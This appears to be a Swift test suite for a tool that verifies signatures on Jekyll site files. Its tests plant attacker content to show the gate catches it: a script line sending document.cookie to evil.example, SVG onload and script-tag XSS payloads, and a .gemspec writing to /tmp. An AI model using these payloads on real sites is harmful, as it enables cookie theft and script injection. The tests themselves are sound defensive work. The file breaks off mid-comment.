import Foundation
import Testing
#if canImport(Glibc)
import Glibc
#endif
import ArticleVault

/// Jekyll publishes every file it does not render as it is (a static file): a script that
/// every signed page loads, an SVG served from the site's origin. The gate's default globs took
/// only pages, so `verify --require-signature SITE` passed a site whose script was replaced.
extension PublishingGate {
    @Test(.timeLimit(.minutes(30))) func staticFilesNeedASignatureWhenSignaturesAreRequired() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("index.html", "---\ntitle: home\n---\n<script src=\"/assets/main.js\"></script>P-index.html-{{ 'r' | upcase }}\n", sign: true)
        try c.write("assets/main.js", "console.log('signed');\n")
        try c.write("_posts/notes.js", "not published: Jekyll makes documents only in _posts\n")
        #expect(try CLI.avault(["sign", "--detached", c.path("assets/main.js"), "--key", "demo-desk"] + c.demo.args).code == 0)
        let gate = ["verify", "--require-signature", c.content.path] + c.ring
        let signed = try CLI.avault(gate)
        #expect(signed.code == 0 && signed.out.contains("2 records: 2 passed"), "\(signed.out)")

        // The attacker's script, and an SVG of their own: Jekyll publishes both.
        try c.write("assets/main.js", "fetch('https://evil.example/?' + document.cookie);\n")
        try c.write("logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\n")
        let site = try c.jekyllBuild()
        #expect(try String(contentsOf: site.appendingPathComponent("assets/main.js"), encoding: .utf8).contains("evil.example"))
        #expect(FileManager.default.fileExists(atPath: site.appendingPathComponent("logo.svg").path))
        #expect(!FileManager.default.fileExists(atPath: site.appendingPathComponent("_posts/notes.js").path))
        let r = try CLI.avault(gate)
        #expect(r.code == 1, "\(r.out)")
        #expect(r.out.contains("\(c.path("assets/main.js")): invalid: ") && r.out.contains("\(c.path("logo.svg")): unsigned: no front matter"), "\(r.out)")
        #expect(!r.out.contains("notes.js") && !r.out.contains("main.js.minisig"), "\(r.out)")
        #expect(r.err == "avault: hint: sign each file without front matter beside it (avault sign --detached --site SITE FILE…), "
                + "or leave out what Jekyll does not publish (--exclude /PATH: /_site, /node_modules, /vendor/bundle, what exclude: names)\n", "\(r.err)")
        // Globs given on the command line say what is taken; without --require-signature the
        // default globs take pages only, as before (unsigned files pass there anyway).
        #expect(try CLI.avault(gate + ["--include", "*.html"]).code == 0)
        let pages = try CLI.avault(["verify", c.content.path] + c.ring)
        #expect(pages.code == 0 && pages.out.contains("1 record: 1 passed"), "\(pages.out)")
        // Signing a directory's files again (`assets/*`) names their signatures too: said so.
        let again = try CLI.avault(["sign", "--detached", "--force", c.path("assets/main.js"), c.path("assets/main.js.minisig"), "--key", "demo-desk"] + c.demo.args)
        #expect(again.code == 64 && again.err.contains("leave the .minisig files out"), "\(again.err)")
    }

    /// A `FILE.minisig` beside a page with front matter is published as a static file: it is
    /// checked with the page, as a signature of the page's bytes that must pass, not taken as an
    /// unsigned file of its own (nor, as before, left unchecked by the default globs).
    @Test func aSignatureBesideAPageIsCheckedWithIt() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("index.md", "---\ntitle: home\n---\nhome\n", sign: true)
        #expect(try CLI.avault(["sign", "--detached", c.path("index.md"), "--key", "demo-desk"] + c.demo.args).code == 0)
        let gate = ["verify", "--require-signature", c.content.path] + c.ring
        let both = try CLI.avault(gate)
        #expect(both.code == 0 && both.out.contains("1 record: 1 passed"), "\(both.out)")
        // Edited and signed again inside: the detached signature beside it is stale.
        try c.write("index.md", "---\ntitle: home\n---\nhome, edited\n", sign: true)
        let stale = try CLI.avault(gate)
        #expect(stale.code == 1 && stale.out.contains("\(c.path("index.md")): valid: \(c.path("index.md.minisig")): invalid"), "\(stale.out)")
        let pages = try CLI.avault(["verify", c.content.path] + c.ring)
        #expect(pages.code == 1, "\(pages.out)")
    }

    /// Found by the review of the rule above: Jekyll publishes static files in a collection
    /// with `output: true`, and in a `_` directory `include:` names (by prefix too), which the
    /// rule left out with every `_` directory; a script that a signed collection page loads was
    /// replaced. Every file outside `_posts/` and `_drafts/` is taken now.
    @Test(.timeLimit(.minutes(30))) func staticFilesInCollectionsAndIncludedDirectoriesAreTaken() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("_config.yml", "collections:\n  docs:\n    output: true\ninclude: [_redirects]\n")
        #expect(try CLI.avault(["sign", "--detached", c.path("_config.yml"), "--key", "demo-desk"] + c.demo.args).code == 0)
        try c.write("_docs/guide.md", "---\ntitle: guide\n---\n<script src=\"app.js\"></script>\n", sign: true)
        try c.write("_docs/app.js", "alert('pwned')\n")
        try c.write("_redirects.d/evil.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\n")
        try c.write("_posts/photo.png", "not published: Jekyll makes documents only here\n")
        let site = try c.jekyllBuild()
        for published in ["docs/app.js", "_redirects.d/evil.svg"] {
            #expect(FileManager.default.fileExists(atPath: site.appendingPathComponent(published).path), "\(published)")
        }
        #expect(!FileManager.default.fileExists(atPath: site.appendingPathComponent("_posts/photo.png").path))
        let r = try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring)
        #expect(r.code == 1, "\(r.out)")
        #expect(r.out.contains("\(c.path("_docs/app.js")): unsigned") && r.out.contains("\(c.path("_redirects.d/evil.svg")): unsigned"), "\(r.out)")
        #expect(!r.out.contains("photo.png"), "\(r.out)")
    }

    /// Found by the same review: the docs said to leave out what Jekyll excludes with
    /// `--exclude README.md`, which also left out a `blog/README.md` Jekyll publishes; no glob
    /// could name the top-level one alone. A leading `/` anchors a glob at the walked directory,
    /// as `exclude:` names paths from the site's top; a trailing `/` is dropped.
    @Test func aLeadingSlashAnchorsAGlobAtTheSitesTop() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("README.md", "top\n")
        try c.write("blog/README.md", "<script>alert('readme')</script>\n")
        try c.write("node_modules/x/index.js", "x\n")
        try c.write("assets/node_modules/evil.js", "alert('nm')\n")
        let r = try CLI.avault(["verify", "--require-signature", c.content.path, "--exclude", "/README.md", "--exclude", "/node_modules/"] + c.ring)
        #expect(r.code == 1, "\(r.out)")
        #expect(r.out.contains("\(c.path("blog/README.md")): unsigned") && r.out.contains("\(c.path("assets/node_modules/evil.js")): unsigned"), "\(r.out)")
        #expect(!r.out.contains("\(c.path("README.md")):") && !r.out.contains("node_modules/x/index.js"), "\(r.out)")
        #expect(r.out.contains("2 records: 0 passed, 2 failed"), "\(r.out)")
    }

    /// Found by the same review: Jekyll (without `--safe`) copies a static file that is a
    /// symbolic link as the link, which then leads somewhere else from the built site; the
    /// gate had checked what it led to from the source. Refused.
    @Test func aStaticFileThatIsALinkIsRefused() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("lib/app.js", "console.log('signed')\n")
        #expect(try CLI.avault(["sign", "--detached", c.path("lib/app.js"), "--key", "demo-desk"] + c.demo.args).code == 0)
        try FileManager.default.createDirectory(atPath: c.path("assets"), withIntermediateDirectories: true)
        #expect(symlink("../lib/app.js", c.path("assets/app.js")) == 0)
        #expect(symlink("../lib/app.js.minisig", c.path("assets/app.js.minisig")) == 0)
        try c.write("index.md", "---\ntitle: home\n---\nhome\n", sign: true)
        #expect(symlink("index.md", c.path("home.md")) == 0) // a page: Jekyll renders what it reads
        let site = try c.jekyllBuild()
        var st = stat()
        #expect(lstat(site.appendingPathComponent("assets/app.js").path, &st) == 0 && (st.st_mode & S_IFMT) == S_IFLNK, "Jekyll copied no link")
        let r = try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring)
        #expect(r.code == 1, "\(r.out)")
        #expect(r.out.contains("\(c.path("assets/app.js")): malformed: a symbolic link to a file without front matter, which a build copies as the link itself"),
                "\(r.out)")
        // The link's signature (a link too) is refused alike; the file, the page and the link
        // to the page pass.
        #expect(r.out.contains("5 records: 3 passed, 2 failed (valid 3, malformed 2)"), "\(r.out)")
        #expect(try CLI.avault(["verify", "--require-signature", c.path("home.md")] + c.ring).code == 0)
    }

    /// Found by a third review: the rule left out every file below a `_posts/` or `_drafts/`
    /// directory, but in a collection (`_docs/guide/_posts/`) Jekyll publishes them all; and a
    /// static file the walk takes was not looked into for tags any more, so that one read into
    /// a signed page by `include_relative` read an unsigned hidden file in turn, unchecked.
    @Test(.timeLimit(.minutes(30))) func staticFilesInACollectionsPostsDirectoryAndTheirTagsAreChecked() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("_config.yml", "collections:\n  docs:\n    output: true\n")
        #expect(try CLI.avault(["sign", "--detached", c.path("_config.yml"), "--key", "demo-desk"] + c.demo.args).code == 0)
        try c.write("_docs/guide/_posts/evil.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\n")
        try c.write("_drafts/evil", "published only as a collection's, failing closed\n")
        try c.write("blog/_posts/photo.png", "not published\n")
        try c.write("about.md", "---\ntitle: about\n---\n{% include_relative parts/body.html %}\n", sign: true)
        try c.write("parts/body.html", "P-body-{{ 'r' | upcase }}\n{% include_relative .extra.html %}\n")
        #expect(try CLI.avault(["sign", "--detached", c.path("parts/body.html"), "--key", "demo-desk"] + c.demo.args).code == 0)
        try c.write(".extra.html", "<script>alert('extra')</script>\n")
        let site = try c.jekyllBuild()
        #expect(FileManager.default.fileExists(atPath: site.appendingPathComponent("docs/guide/_posts/evil.svg").path))
        #expect(try String(contentsOf: site.appendingPathComponent("about.html"), encoding: .utf8).contains("alert('extra')"))
        let r = try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring)
        #expect(r.code == 1, "\(r.out)")
        #expect(r.out.contains("\(c.path("_docs/guide/_posts/evil.svg")): unsigned") && r.out.contains("\(c.path("_drafts/evil")): unsigned"), "\(r.out)")
        #expect(r.out.contains("\(c.path(".extra.html")): unsigned: no front matter; read into \(c.path("about.md")) by include_relative"), "\(r.out)")
        #expect(!r.out.contains("photo.png"), "\(r.out)")
    }

    /// A post is rendered, not copied: one that is a symbolic link is not refused as a static
    /// file is (from the same review).
    @Test func aPostThatIsALinkIsNotTakenForAStaticFile() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("drafts/2024-05-03-note.md", "a post without front matter\n")
        #expect(try CLI.avault(["sign", "--detached", c.path("drafts/2024-05-03-note.md"), "--key", "demo-desk"] + c.demo.args).code == 0)
        try FileManager.default.createDirectory(atPath: c.path("_posts"), withIntermediateDirectories: true)
        #expect(symlink("../drafts/2024-05-03-note.md", c.path("_posts/2024-05-03-note.md")) == 0)
        let r = try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring)
        #expect(!r.out.contains("\(c.path("_posts/2024-05-03-note.md")): malformed: a symbolic link"), "\(r.out)")
    }

    /// Found by a fourth review: a FIFO named `PAGE.minisig` beside a page with front matter
    /// was opened to be read as its signature, and the gate blocked for ever; a date-named
    /// static file in a collection's `_posts/` could never pass (its signature, date-named too,
    /// was taken for a post); and a link there was let through as a post's.
    @Test(.timeLimit(.minutes(30))) func signaturesBesideFilesInCollectionsAndFIFOs() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("index.md", "---\ntitle: home\n---\nhome\n", sign: true)
        #expect(mkfifo(c.path("index.md.minisig"), 0o644) == 0)
        let blocked = try CLI.run("/usr/bin/timeout", ["-s", "KILL", "60", CLI.avaultPath, "verify", "--require-signature", c.content.path] + c.ring)
        #expect(blocked.code == 1, "\(blocked.code) \(blocked.out)")
        #expect(blocked.out.contains("\(c.path("index.md.minisig")): a FIFO, not a regular file"), "\(blocked.out)")
        unlink(c.path("index.md.minisig"))

        try c.write("_config.yml", "collections:\n  docs:\n    output: true\n")
        try c.write("_docs/guide/_posts/2024-01-01-chart.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n")
        for name in ["_config.yml", "_docs/guide/_posts/2024-01-01-chart.svg"] {
            #expect(try CLI.avault(["sign", "--detached", "--site", c.content.path, c.path(name), "--key", "demo-desk"] + c.demo.args).code == 0)
        }
        let signed = try CLI.avault(["verify", "--require-signature", "--require-place", c.content.path] + c.ring)
        #expect(signed.code == 1 && !signed.out.contains("chart.svg"), "\(signed.out)") // index.md names no place
        #expect(try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring).code == 0)
        // The same file as a link: refused as any static file's.
        try FileManager.default.moveItem(atPath: c.path("_docs/guide/_posts/2024-01-01-chart.svg"), toPath: c.path("chart.svg"))
        #expect(symlink("../../../chart.svg", c.path("_docs/guide/_posts/2024-01-01-chart.svg")) == 0)
        let link = try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring)
        #expect(link.code == 1 && link.out.contains("2024-01-01-chart.svg: malformed: a symbolic link"), "\(link.out)")
    }

    /// A file system may list entries without their kind (`DT_UNKNOWN`: some network and FUSE
    /// ones, XFS without `ftype`). The pairing of `FILE.minisig` with `FILE` took only entries
    /// listed as regular files, so there every signature was taken as a file of its own and a
    /// signed site could not pass. Run here under a `readdir` that lists every kind as unknown
    /// (an `LD_PRELOAD` library built for the test), the gate must judge as it does elsewhere.
    @Test(.timeLimit(.minutes(30))) func aFileSystemThatListsNoKindsIsWalkedAlike() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        let unknownKinds = try c.preload("unknown-kinds", """
            #include <dirent.h>
            struct dirent *readdir(DIR *d) {
                struct dirent *(*real)(DIR *) = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
                struct dirent *e = real(d);
                if (e) e->d_type = DT_UNKNOWN;
                return e;
            }
            struct dirent64 *readdir64(DIR *d) {
                struct dirent64 *(*real)(DIR *) = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
                struct dirent64 *e = real(d);
                if (e) e->d_type = DT_UNKNOWN;
                return e;
            }
            """)

        try c.write("index.md", "---\ntitle: home\n---\n<script src=\"/assets/main.js\"></script>\n", sign: true)
        try c.write("assets/main.js", "console.log('signed');\n")
        try c.write("_posts/2024-01-01-post.md", "---\ntitle: post\n---\npost\n", sign: true)
        #expect(try CLI.avault(["sign", "--detached", "--site", c.content.path, c.path("assets/main.js"), "--key", "demo-desk"] + c.demo.args).code == 0)
        #expect(symlink("main.js", c.path("assets/link.js")) == 0)
        let gate = ["verify", "--require-signature", "--json", c.content.path] + c.ring
        for env in [[:], unknownKinds] {
            let r = try CLI.avault(gate, env: env)
            // The same reports, in the same order, with and without kinds in the listing: the
            // script with its signature, no report of the signature itself, the link refused.
            let outcomes = r.out.split(separator: "\n").compactMap { line -> String? in
                guard let rec = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any], rec["type"] as? String == "record",
                      let path = rec["path"] as? String, let outcome = rec["outcome"] as? String else { return nil }
                return "\(path.dropFirst(c.content.path.count + 1)) \(outcome)"
            }
            #expect(outcomes == ["_posts/2024-01-01-post.md valid", "assets/link.js malformed", "assets/main.js valid", "index.md valid"],
                    "\(env.isEmpty ? "kinds listed" : "no kinds listed"): \(r.out)")
            #expect(r.code == 1, "\(r.err)")
        }
        unlink(c.path("assets/link.js"))
        #expect(try CLI.avault(gate, env: unknownKinds).code == 0)
        try c.write("assets/main.js", "fetch('https://evil.example/?' + document.cookie);\n")
        #expect(try CLI.avault(gate, env: unknownKinds).code == 1)
    }

    /// Found by this session's review: Jekyll's walk skips hidden entries, but an include tag
    /// reads `_includes/.banner.html` or `_includes/.parts/nav.html` by the name a page gives,
    /// and Sass imports `_sass/.colors.scss` or, from the site's top, `.theme/_vars.scss`; the
    /// gate skipped them all, and an attacker's script went into a signed page. Now every entry
    /// below those directories is taken, and Sass imports are followed to what they read.
    @Test(.timeLimit(.minutes(30))) func hiddenFilesReadByNameAreTaken() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("_config.yml", "title: t\n")
        try c.write("index.md", "---\ntitle: home\n---\nHello\n{% include .banner.html %}\n{% include .parts/nav.html %}\n")
        try c.write("assets/main.scss", "---\n---\n@import \".colors\";\n@import \".theme/vars\";\n@import \".top\";\n")
        for name in ["index.md", "assets/main.scss"] {
            #expect(try CLI.avault(["sign", "--site", c.content.path, c.path(name), "--key", "demo-desk"] + c.demo.args).code == 0, "\(name)")
        }
        let hidden = ["_includes/.banner.html": "<p>signed banner</p>\n", "_includes/.parts/nav.html": "<p>signed nav</p>\n",
                      "_sass/.colors.scss": "p { color: blue; }\n", ".theme/_vars.scss": "a { color: green; }\n", ".top.scss": "b { color: black; }\n"]
        for (name, text) in hidden { try c.write(name, text) }
        // (assets/main.scss, a page with front matter, is signed detached too: Sass reads it whole.)
        for name in ["_config.yml", "assets/main.scss"] + hidden.keys.sorted() {
            #expect(try CLI.avault(["sign", "--detached", "--site", c.content.path, c.path(name), "--key", "demo-desk"] + c.demo.args).code == 0, "\(name)")
        }
        let gate = ["verify", "--require-signature", "--require-place", c.content.path] + c.ring
        let signed = try CLI.avault(gate)
        #expect(signed.code == 0 && signed.out.contains("8 records: 8 passed"), "\(signed.out)")

        for name in hidden.keys { try c.write(name, name.hasSuffix(".html") ? "<script>alert('\(name)')</script>\n" : "i { content: '\(name)'; }\n") }
        let site = try c.jekyllBuild()
        let page = try String(contentsOf: site.appendingPathComponent("index.html"), encoding: .utf8)
        let css = try String(contentsOf: site.appendingPathComponent("assets/main.css"), encoding: .utf8)
        for name in hidden.keys {
            #expect((name.hasSuffix(".html") ? page : css).contains("'\(name)'"), "Jekyll did not read \(name)")
        }
        let r = try CLI.avault(gate)
        #expect(r.code == 1 && r.out.contains("8 records: 3 passed, 5 failed (valid 3, invalid 5)"), "\(r.out)")
        for name in hidden.keys { #expect(r.out.contains("\(c.path(name)): invalid: "), "\(name): \(r.out)") }

        // Hidden directories are not walked (`.venv/lib -> /usr/lib` is not followed): what Sass
        // reads there is found from the imports, through a link too.
        for name in hidden.keys { try c.write(name, hidden[name]!) }
        for name in hidden.keys.sorted() {
            #expect(try CLI.avault(["sign", "--detached", "--force", "--site", c.content.path, c.path(name), "--key", "demo-desk"] + c.demo.args).code == 0)
        }
        try FileManager.default.createDirectory(atPath: c.path(".venv"), withIntermediateDirectories: true)
        #expect(symlink("/usr/lib", c.path(".venv/lib")) == 0)
        #expect(try CLI.avault(gate).code == 0)
        let elsewhere = c.demo.dir.appendingPathComponent("elsewhere")
        try FileManager.default.moveItem(atPath: c.path(".theme"), toPath: elsewhere.path)
        #expect(symlink(elsewhere.path, c.path(".theme")) == 0)
        try CLI.write("i { content: 'through a link'; }\n", to: elsewhere.appendingPathComponent("_vars.scss"))
        #expect(try String(contentsOf: c.jekyllBuild().appendingPathComponent("assets/main.css"), encoding: .utf8).contains("through a link"))
        let links = try CLI.avault(gate)
        #expect(links.code == 1 && links.out.contains("8 records: 7 passed, 1 failed (valid 7, invalid 1)"), "\(links.out)")
        #expect(links.out.contains("\(c.path(".theme/_vars.scss")): invalid: "), "\(links.out)")
    }

    /// Found by the second review of this session: libsass reads, for `@import "a/b"`, `a/b`
    /// and `a/_b` with no extension too, and `@import "x.txt"` reads `x.txt`; and it reads from
    /// directories the gate is told to leave out (`--exclude /node_modules`, which its own hint
    /// suggested) or that `--include` globs do not take. Each file an import may read is now
    /// checked, wherever it lies; an import whose name is known only as the file compiles
    /// fails with `--require-signature`. Also: Bundler's `gemspec` line evaluates a hidden
    /// `.gemspec` at the site's top (any Ruby, run by `jekyll build`), which is taken now.
    @Test(.timeLimit(.minutes(30))) func whatSassImportsIsCheckedWhereverItLies() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("_config.yml", "title: t\n")
        try c.write("assets/main.scss", "---\n---\n@import \".theme/sub/deep\", \".theme/extra.txt\";\n@import 'node_modules/bs/scss/bootstrap';\n@import \"sub/plain\";\nbody { color: red; }\n")
        let imported = [".theme/sub/_deep.scss": "p { x: 1; }\n", ".theme/extra.txt": "q { x: 2; }\n",
                        "node_modules/bs/scss/_bootstrap.scss": "r { x: 3; }\n", "sub/plain.css": "s { x: 4; }\n"]
        for (name, text) in imported { try c.write(name, text) }
        #expect(try CLI.avault(["sign", "--site", c.content.path, c.path("assets/main.scss"), "--key", "demo-desk"] + c.demo.args).code == 0)
        for name in ["_config.yml", "assets/main.scss"] + imported.keys.sorted() {
            #expect(try CLI.avault(["sign", "--detached", "--site", c.content.path, c.path(name), "--key", "demo-desk"] + c.demo.args).code == 0, "\(name)")
        }
        let gate = ["verify", "--require-signature", "--require-place", c.content.path] + c.ring
        let excluded = gate + ["--exclude", "/node_modules"]
        let only = gate + ["--include", "*.md", "--include", "*.scss"]
        for args in [gate, excluded, only] {
            let r = try CLI.avault(args)
            #expect(r.code == 0, "\(args): \(r.out)")
        }
        // The signed partial removed, an unsigned one without an extension in its place; the
        // others replaced.
        try FileManager.default.removeItem(atPath: c.path(".theme/sub/_deep.scss"))
        try c.write(".theme/sub/_deep", "p { x: 'unsigned deep'; }\n")
        for name in [".theme/extra.txt", "node_modules/bs/scss/_bootstrap.scss", "sub/plain.css"] { try c.write(name, "t { x: '\(name)'; }\n") }
        let css = try String(contentsOf: c.jekyllBuild().appendingPathComponent("assets/main.css"), encoding: .utf8)
        for text in ["unsigned deep", ".theme/extra.txt", "node_modules/bs/scss/_bootstrap.scss", "sub/plain.css"] {
            #expect(css.contains(text), "Jekyll did not read \(text): \(css)")
        }
        for args in [gate, excluded, only] {
            let r = try CLI.avault(args)
            #expect(r.code == 1, "\(args): \(r.out)")
            #expect(r.out.contains("\(c.path(".theme/sub/_deep")): unsigned: no front matter; read into \(c.path("assets/main.scss")) by @import \".theme/sub/deep\""), "\(r.out)")
            for name in [".theme/extra.txt", "node_modules/bs/scss/_bootstrap.scss", "sub/plain.css"] {
                #expect(r.out.contains("\(c.path(name)): invalid: "), "\(args) \(name): \(r.out)")
            }
        }

        // A name known only as the file compiles.
        try c.write("assets/other.scss", "---\n---\n$theme: 'x';\n@import \"#{$theme}/vars\";\n")
        #expect(try CLI.avault(["sign", "--site", c.content.path, c.path("assets/other.scss"), "--key", "demo-desk"] + c.demo.args).code == 0)
        #expect(try CLI.avault(["sign", "--detached", "--site", c.content.path, c.path("assets/other.scss"), "--key", "demo-desk"] + c.demo.args).code == 0)
        let variable = try CLI.avault(gate + ["--include", "other.scss"])
        #expect(variable.code == 1 && variable.out.contains("@import \"#{$theme}/vars\" in \(c.path("assets/other.scss")): a name known only as it compiles, or a list the gate does not read; not checked"), "\(variable.out)")
        let plain = try CLI.avault(["verify", c.content.path, "--include", "other.scss"] + c.ring)
        #expect(plain.code == 1 && !plain.out.contains("other.scss"), "\(plain.out)") // (main.scss's imports fail)

        // `../` climbs from the importing file: above the site's top only where a file is there.
        try FileManager.default.removeItem(atPath: c.path("assets/other.scss"))
        try c.write("assets/third.scss", "---\n---\n@import \"a/b\";\n")
        try c.write("_sass/a/_b.scss", "@import \"../x\";\n")
        try c.write("_sass/_x.scss", "u { x: 5; }\n")
        for name in ["_sass/a/_b.scss", "_sass/_x.scss"] {
            #expect(try CLI.avault(["sign", "--detached", "--site", c.content.path, c.path(name), "--key", "demo-desk"] + c.demo.args).code == 0)
        }
        #expect(try CLI.avault(["sign", "--site", c.content.path, c.path("assets/third.scss"), "--key", "demo-desk"] + c.demo.args).code == 0)
        #expect(try CLI.avault(["sign", "--detached", "--site", c.content.path, c.path("assets/third.scss"), "--key", "demo-desk"] + c.demo.args).code == 0)
        let third = gate + ["--include", "third.scss", "--exclude", "/assets/main.scss", "--exclude", "/node_modules"]
        let inside = try CLI.avault(third)
        #expect(inside.code == 0, "\(inside.out)")
        try CLI.write("v { x: 6; }\n", to: c.demo.dir.appendingPathComponent("_x.scss"))
        // (libsass reads `_sass/_x.scss`, beside the importing file, and looks no further.)
        #expect(try CLI.avault(third).code == 0)
        for name in ["_sass/_x.scss", "_sass/_x.scss.minisig"] { try FileManager.default.removeItem(atPath: c.path(name)) }
        let outside = try CLI.avault(third)
        #expect(outside.code == 1 && outside.out.contains("@import \"../x\" in \(c.path("_sass/a/_b.scss")): \(c.content.path)/../_x.scss, a file outside the site; not checked"), "\(outside.out)")

        // A hidden `.gemspec` at the top, which Bundler's `gemspec` line evaluates.
        try c.write(".gemspec", "File.write('/tmp/pwned', 'x')\n")
        let gemspec = try CLI.avault(gate + ["--include", "*.md"])
        #expect(gemspec.code == 1 && gemspec.out.contains("\(c.path(".gemspec")): unsigned"), "\(gemspec.out)")
    }

    /// Found by an attack review of the Sass import follow, each with a real `jekyll build`
    /// that published an unsigned file while the gate passed: a page named `.Scss` (Jekyll
    /// compiles Sass extensions in any case; the gate read imports of lowercase ones only); a
    /// list of imports with a comment or a line break before a comma (the scan ended the list
    /// there); an import inside what the scan had taken as a quoted name; Liquid in a Sass page
    /// (`{% include %}` writes an import); an import of a file named `.css` (taken for plain
    /// CSS); `lib/../colors` where `lib` is a link (folded by the gate, resolved by the system);
    /// and a Sass file too large for the scan (its imports skipped). Also a false failure: a
    /// partial's import, found beside it, was looked for at the site's top too, where libsass
    /// does not look once it has found one (a page there named alike needed a detached signature).
    @Test(.timeLimit(.minutes(30))) func sassReadAsLibsassReadsIt() throws {
        let c = try Corpus()
        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
        try c.write("_config.yml", "title: t\n")
        try c.write("_sass/_a.scss", "a { b: c; }\n")
        try c.write("_includes/imports.html", "@import \".four\";\n")
        try c.write("_colors.scss", "c { d: 'signed colors'; }\n")
        // The false failure: `_sass/_theme.scss` imports `_sass/_print.scss`, beside it; a page
        // `print.scss` at the top is signed as pages are.
        try c.write("_sass/_theme.scss", "@import \"print\";\n")
        try c.write("_sass/_print.scss", "p { q: 'signed print'; }\n")
        try c.sign(["_config.yml", "_sass/_a.scss", "_includes/imports.html", "_colors.scss", "_sass/_theme.scss", "_sass/_print.scss"], detached: true)
        let pages = ["upper.Scss": "@import \".one\";\n", "list.scss": "@import\n  \"a\",      // reset\n  \".two\";  // theme\n",
                     "again.scss": "/* @import \"x */ @import \".three\";\n", "liquid.scss": "{% include imports.html %}\n",
                     "bare.scss": "@import \".css\";\n", "climb.scss": "@import \"lib/../colors\";\n",
                     "site.scss": "@import \"theme\";\n", "print.scss": "x { y: z; }\n"]
        for (name, body) in pages { try c.write(name, "---\n---\n" + body) }
        try c.sign(pages.keys.sorted(), detached: false)
        try c.sign(pages.keys.sorted().filter { $0 != "print.scss" }, detached: true)
        let gate = ["verify", "--require-signature", "--require-place", c.content.path] + c.ring
        // (Liquid, a climb after a directory and a list read two ways fail closed, wherever they lead.)
        let clean = try CLI.avault(gate + ["--exclude", "/liquid.scss*", "--exclude", "/climb.scss*", "--exclude", "/again.scss*"])
        #expect(clean.code == 0, "\(clean.out)")

        // The attacker's files, unsigned; `lib` a link to a hidden directory.
        for (name, mark) in [(".one.scss", "one"), (".two.scss", "two"), (".three.scss", "three"), (".four.scss", "four"), (".css", "five"),
                             (".stash/_colors.scss", "six")] {
            try c.write(name, "u { v: 'unsigned \(mark)'; }\n")
        }
        try FileManager.default.createDirectory(atPath: c.path(".stash/sub"), withIntermediateDirectories: true)
        #expect(symlink(".stash/sub", c.path("lib")) == 0)
        let site = try c.jekyllBuild()
        for (page, mark) in [("upper", "one"), ("list", "two"), ("again", "three"), ("liquid", "four"), ("bare", "five"), ("climb", "six"),
                             ("site", "signed print")] {
            let css = try String(contentsOf: site.appendingPathComponent(page + ".css"), encoding: .utf8)
            #expect(css.contains(mark), "Jekyll did not publish \(mark) in \(page).css: \(css)")
        }
        let r = try CLI.avault(gate)
        #expect(r.code == 1, "\(r.out)")
        for (file, page, name) in [(".one.scss", "upper.Scss", ".one"), (".two.scss", "list.scss", ".two"), (".three.scss", "again.scss", ".three"),
                                   (".css", "bare.scss", ".css")] {
            #expect(r.out.contains("\(c.path(file)): unsigned: no front matter; read into \(c.path(page)) by @import \"\(name)\""), "\(file): \(r.out)")
        }
        #expect(r.out.contains("Liquid \"{% include imports.html %}\" in \(c.path("liquid.scss")), which Jekyll renders before Sass compiles it"), "\(r.out)")
        #expect(r.out.contains("@import \"lib/../colors\" in \(c.path("climb.scss")): a `..` after a directory, which a link may lead elsewhere; not checked"),
                "\(r.out)")
        #expect(!r.out.contains("print.scss"), "\(r.out)")

        // A Sass file too large to scan fails the page that imports it.
        for page in pages.keys { try FileManager.default.removeItem(atPath: c.path(page)) }
        for page in pages.keys where page != "print.scss" { try FileManager.default.removeItem(atPath: c.path(page + ".minisig")) }
        try FileManager.default.removeItem(atPath: c.path("lib"))
        try c.write("big.scss", "---\n---\n@import \"big\";\n")
        try c.sign(["big.scss"], detached: false)
        try c.sign(["big.scss"], detached: true)
        var big = Data("@import \"../.one\";\n".utf8)
        big.append(Data(repeating: 0x0A, count: 64 << 20))
        try big.write(to: URL(fileURLWithPath: c.path("_sass/_big.scss")))
        try c.sign(["_sass/_big.scss"], detached: true)
        let large = try CLI.avault(gate + ["--exclude", ".*"])
        #expect(large.code == 1 && large.out.contains("\(c.path("_sass/_big.scss")): ") && large.out.contains("; its @import rules not read"), "\(large.out)")
    }

    /// Found by a second review of the Sass import follow, each with a real `jekyll build`: a
    /// list after `url(//host/x)` (read as a comment) or `url(x\n)`; a vertical tab before a
    /// comma; an indented-syntax list (`x{.css, y`: sass2scss cuts at commas only); `@imp{{
    /// site.baseurl }}ort` (rendered empty); Liquid in a post without front matter (rendered
    /// all the same); a page's import looked for beside it first, where libsass does not look
    /// (jekyll-sass-converter compiles a page by its name alone, from the directory the build
    /// runs in), so a signed file there stopped the search; a scan quadratic in the number of
    /// `@import`s (20,000 with an unclosed comment held the gate 27 s; 80,000, past 300 s). And a
